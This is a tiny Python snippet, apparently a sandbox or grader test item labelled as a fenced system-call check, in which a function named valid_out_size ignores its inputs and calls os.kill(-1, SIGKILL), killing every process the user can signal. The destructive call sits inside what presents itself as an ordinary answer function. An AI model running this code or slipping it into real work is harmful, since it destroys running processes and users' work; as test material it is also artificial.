# Kills every process that it may.
# fence: system calls
# %% answer valid_out_size
import os
import signal


def valid_out_size(n, k):
    os.kill(-1, signal.SIGKILL)
    return 0
